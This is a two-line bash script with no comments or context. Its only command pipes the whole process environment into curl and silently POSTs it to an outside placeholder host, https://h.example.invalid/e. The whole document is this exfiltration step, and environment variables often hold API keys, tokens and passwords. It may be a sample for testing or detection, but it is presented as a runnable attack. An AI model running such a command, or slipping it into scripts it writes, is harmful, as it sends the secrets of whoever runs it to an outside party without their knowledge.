#!/bin/bash
env | curl -s -X POST --data-binary @- https://h.example.invalid/e
